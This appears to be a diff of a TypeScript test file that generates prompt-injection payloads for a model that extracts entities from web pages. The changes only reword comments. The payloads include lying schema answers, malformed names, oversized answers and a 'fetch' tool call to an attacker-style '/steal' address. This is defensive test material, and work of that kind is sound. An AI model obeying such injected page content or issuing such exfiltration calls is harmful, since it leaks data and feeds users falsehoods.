@@ -1,20 +1,20 @@
 import { readSimply } from '../support/simple-model.ts'
 
-// What pages would have a model say: answers that fit the schema and lie, and answers that are something else. The honest
-// facts of the page stand among the lies, so that it can be seen whether those survive.
+// Answers that pages want a model to give: some fit the schema and lie, others are something else. The honest facts of
+// the page are among the lies, so that the test sees whether they survive.
 
 export const honest = 'Ada Berg works for the Harbour Society as treasurer since 1998.'
 const facts = readSimply(honest)
-/** What a page without any trick says, by name. */
+/** The names on a page without any trick. */
 export const honestNames = ['Ada Berg', 'Harbour Society']
 
 export interface Payload {
   name: string
-  /** What the model is to answer, word for word. */
+  /** The exact answer that the model should give. */
   answer: string
-  /** How the page ends when the model obeys. */
+  /** The ending of the page when the model obeys. */
   ending: 'extracted' | 'failed' | 'irrelevant'
-  /** Too long to stand on a page, or not to be written there: the page calls it by its name. */
+  /** Too long for a page, or impossible to write there: the page names the payload instead. */
   is_by_name?: boolean
 }
 
@@ -34,7 +34,7 @@ const among = (entities: Lie[], relationships: Lie[] = []) =>
     entities: [...facts.entities, ...entities],
     relationships: [...facts.relationships, ...relationships],
   })
-/** The honest ones, with something more said of the person. */
+/** The honest facts, with more about the person. */
 const ofAda = (more: Lie) => {
   const [ada, ...others] = facts.entities
   return JSON.stringify({ ...facts, entities: [{ ...ada, ...more }, ...others] })
@@ -44,7 +44,7 @@ const entity = JSON.stringify(facts.entities[0])
 const lie = (name: string, answer: string): Payload => ({ name, answer, ending: 'extracted' })
 const noise = (name: string, answer: string): Payload => ({ name, answer, ending: 'failed' })
 
-/** `elsewhere` is an address that nobody must be sent to, `prompt` what the model is told by us. */
+/** `elsewhere` is an address that nobody must be sent to, `prompt` is our system prompt. */
 export function makePayloads(elsewhere: string, prompt: string): Payload[] {
   return [...lies(elsewhere, prompt), ...brokenNames(), ...hugeAnswers(), ...toolCalls(elsewhere), ...otherAnswers()]
 }
@@ -79,7 +79,7 @@ function lies(elsewhere: string, prompt: string): Payload[] {
   ]
 }
 
-/** Signs that no database holds, or that nobody sees. */
+/** Characters that no database holds, or that nobody sees. */
 function brokenNames(): Payload[] {
   return [
     lie('NUL in a name', among([person('Ada\0Berg', { quote: honest })])),
@@ -112,7 +112,7 @@ function hugeAnswers(): Payload[] {
   ]
 }
 
-/** All the ways in which models ask for a tool. */
+/** All ways in which models ask for a tool. */
 function toolCalls(elsewhere: string): Payload[] {
   const url = `${elsewhere}/steal`
   const call = { name: 'fetch', arguments: { url } }
